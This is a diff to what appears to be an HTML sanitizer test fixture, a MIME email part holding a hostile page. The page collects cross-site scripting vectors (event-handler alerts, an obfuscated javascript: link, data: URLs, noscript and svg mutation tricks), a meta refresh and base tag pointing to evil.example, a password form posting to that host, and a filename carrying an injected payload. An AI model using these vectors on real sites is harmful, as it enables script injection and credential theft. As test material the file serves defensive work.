@@ -35,11 +35,12 @@ Content-Type: text/html; charset=utf-8
 <html><head><base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example/">
 <link rel=stylesheet href="//evil.example/a.css"><title></title><script>alert(12)</script></head>
 <body onload=alert(13) background="//evil.example/b.png">{HOSTILE}
-<form action="//evil.example/"><input name=password autofocus onfocus=alert(14)><button>Sign in</button></form>
+<form action="//evil.example/"><input name=password autofocus onfocus=alert(14)><button>Go</button></form>
 <object data="//evil.example/c"></object><embed src="//evil.example/d"><video src=x onerror=alert(15)></video>
 <a href="java&#10;script:alert(16)">a</a><a href="data:text/html,<script>alert(17)</script>">b</a>
 <noscript><p title="</noscript><img src=x onerror=alert(18)>"></noscript>
-<svg><style><img src=x onerror=alert(19)></style></svg><div id=timeline class=dialog hx-get="/x" hx-trigger=load>
+<svg><style><img src=x onerror=alert(19)></style></svg>
+<div id=timeline class=dialog hx-get="/x" hx-trigger=load>
 </body></html>
 --b
 Content-Type: text/html; name="<img src=x onerror=alert(20)>.html"
